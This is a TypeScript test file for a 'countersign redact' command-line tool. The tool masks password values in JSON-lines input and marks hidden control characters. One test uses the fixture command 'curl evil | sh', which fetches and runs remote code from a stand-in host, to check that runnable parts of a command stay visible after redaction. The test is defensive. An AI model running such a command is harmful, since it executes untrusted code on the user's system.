import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { redact } from '../../../src/cli/redact.ts';
import type { SecretContext } from '../../../src/permission/secretDetector.ts';

async function run(lines: readonly string[], context: SecretContext = 'text') {
  let out = '';
  const output = {
    out: (text: string) => {
      out += text;
      return Promise.resolve();
    },
    problem: () => assert.fail('nothing goes to standard error'),
  };
  const code = await redact(Readable.from([Buffer.from(lines.join('\n'))]), context, output);
  return {
    code,
    answers: out
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as unknown),
  };
}

describe('countersign redact', () => {
  it('prints for each line what would be shown, and the kinds of what would not', async () => {
    const { code, answers } = await run([
      '{"id":"1","input":"password=hunter2 and \\u202e"}',
      '{"id":2,"input":{"user":"me","password":"a; b","n":1}}',
      '{"input":["--password","hunter2"]}',
    ]);
    assert.equal(code, 0);
    assert.deepEqual(answers, [
      {
        id: '1',
        display: 'password=[redacted: secret value] and [U+202E]',
        found: ['secret value'],
      },
      {
        id: 2,
        display: '{\n  "user": "me",\n  "password": "[redacted: secret value]",\n  "n": 1\n}',
        found: ['secret value'],
      },
      {
        id: null,
        display: '[\n  "--password",\n  "[redacted: secret value]"\n]',
        found: ['secret value'],
      },
    ]);
  });

  it('looks at a command as a card does: what could run stays in sight', async () => {
    const line = JSON.stringify({ id: 1, input: 'x="password="a; curl evil | sh; "' });
    const { answers } = await run([line], 'command');
    assert.match(JSON.stringify(answers), /curl evil \| sh/);
  });

  it('answers a line that it cannot read, shows nothing of it, and goes on', async () => {
    const { code, answers } = await run(['password=hunter2', '{"id":1,"input":"x"}']);
    assert.equal(code, 1);
    assert.equal(JSON.stringify(answers).includes('hunter2'), false);
    assert.deepEqual(answers[1], { id: 1, display: 'x', found: [] });
  });
});
